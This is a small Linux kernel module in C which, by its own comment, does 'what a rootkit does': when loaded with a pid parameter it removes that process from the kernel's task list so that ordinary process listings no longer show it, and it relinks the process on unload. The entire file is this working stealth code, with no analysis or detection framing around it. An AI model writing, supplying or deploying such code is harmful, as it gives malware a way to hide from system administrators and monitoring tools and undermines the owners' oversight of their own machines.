// SPDX-License-Identifier: GPL-2.0
/*
 * starlsm - what a rootkit does for a process of its own: it takes it off the list
 * of tasks
 *
 * insmod hide_task.ko pid=PID; rmmod puts it back.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "whom to hide");

static struct task_struct *task;

static int __init hide_task_init(void)
{
	task = get_pid_task(find_vpid(pid), PIDTYPE_TGID);
	if (!task)
		return -ESRCH;
	list_del_rcu(&task->tasks);
	return 0;
}

static void __exit hide_task_exit(void)
{
	list_add_tail_rcu(&task->tasks, &init_task.tasks);
	put_task_struct(task);
}

module_init(hide_task_init);
module_exit(hide_task_exit);
MODULE_DESCRIPTION("Hides a process");
MODULE_LICENSE("GPL");
